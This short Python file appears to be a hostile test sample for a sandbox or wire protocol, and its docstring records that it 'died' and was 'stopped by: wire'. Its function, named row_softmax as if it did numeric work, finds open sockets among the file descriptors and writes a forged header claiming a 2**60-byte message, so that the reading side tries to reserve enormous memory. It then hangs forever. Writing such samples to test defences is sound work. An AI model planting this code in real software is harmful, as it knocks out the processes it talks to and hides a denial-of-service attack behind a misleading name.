"""Announce a message of 2**60 bytes, for which a trusting reader reserves memory, and wait.

verdict: died
stopped by: wire
"""
import os
import stat
import struct


def row_softmax(x, temperature=1.0):
    for fd in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("<QQ", 2**60, 2**60) + b'["d"]')
        except OSError:
            continue
    while True:
        os.read(0, 1)
